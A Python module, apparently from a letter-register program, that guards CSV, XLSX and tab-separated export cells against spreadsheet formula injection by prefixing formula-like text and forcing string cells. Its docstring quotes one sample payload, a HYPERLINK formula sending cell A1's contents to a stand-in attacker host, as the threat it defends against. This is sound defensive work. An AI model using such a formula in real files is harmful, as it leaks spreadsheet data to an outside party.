"""Cells of the tables the program writes (CSV, XLSX, tab-separated listings): text stays
text, never a formula a spreadsheet would run.

A subject such as ``=HYPERLINK("http://evil.example/?x="&A1,"click")`` typed into a letter
reaches the register and, from there, every export a clerk opens in Excel or LibreOffice
(issue 13 item 4: CSV/formula injection). Every table writer goes through here:

* :func:`csv_cell` — OWASP's rule for CSV: a cell beginning with ``=`` ``+`` ``-`` ``@``, TAB
  or CR (and LF, and the full-width ``＝ ＋ － ＠`` some spreadsheets also accept) gets a
  leading ``'``, which every spreadsheet shows as text and none evaluates. The price is that
  such a cell reads with the quote in a plain text editor.
* :func:`xlsx_row` — an XLSX row whose text cells are strings (openpyxl writes them as inline
  strings, ``data_type == "s"``): openpyxl would otherwise store any string beginning with
  ``=`` as a formula. Text that looks like a formula also gets Excel's *quote prefix* style,
  so editing the cell in Excel keeps it text. Characters XML cannot hold (control
  characters) become U+FFFD instead of making the export fail.

Numbers, dates and None go into XLSX as themselves; only text is guarded.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import Any

# What a spreadsheet reads as the start of a formula (OWASP: = + - @ TAB CR; LF and the
# full-width forms as well, which some spreadsheets and IMEs turn into the ASCII ones).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
# XML 1.0 cannot hold these (openpyxl refuses them with IllegalCharacterError).
_NOT_XML = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


def looks_like_formula(text: str) -> bool:
    return text.startswith(FORMULA_STARTS)


def csv_cell(value: Any) -> str:
    """One CSV cell as text that no spreadsheet evaluates."""
    text = "" if value is None else str(value)
    return "'" + text if looks_like_formula(text) else text


def csv_row(values: Iterable[Any]) -> list[str]:
    return [csv_cell(v) for v in values]


def listing_cell(value: Any) -> str:
    """A cell of a tab-separated listing printed one entry per line (``register list``):
    neutralised like a CSV cell, and kept on its line and in its column."""
    text = "" if value is None else str(value)
    return csv_cell(" ".join(text.replace("\t", " ").splitlines()) if text else text)


def xlsx_row(sheet: Any, values: Iterable[Any]) -> int:
    """Append ``values`` to an openpyxl worksheet with text kept as text; returns the row's
    number (1-based)."""
    cleaned = [_NOT_XML.sub("\ufffd", v) if isinstance(v, str) else v for v in values]
    sheet.append(cleaned)
    row = sheet.max_row
    for column, value in enumerate(cleaned, start=1):
        if isinstance(value, str):
            cell = sheet.cell(row, column)
            cell.data_type = "s"  # openpyxl made "=…" a formula ("f"): it is text
            if looks_like_formula(value):
                cell.quotePrefix = True
    return row
